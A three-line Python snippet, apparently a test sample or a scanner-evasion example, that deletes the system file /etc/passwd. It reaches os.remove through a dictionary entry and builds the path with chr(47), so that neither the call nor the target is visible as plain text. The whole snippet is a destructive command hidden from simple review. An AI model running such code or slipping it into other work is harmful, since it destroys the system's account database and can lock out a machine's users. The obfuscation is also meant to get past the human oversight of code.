import os

work = {"r": os.remove}
work["r"](chr(47) + "etc/passwd")
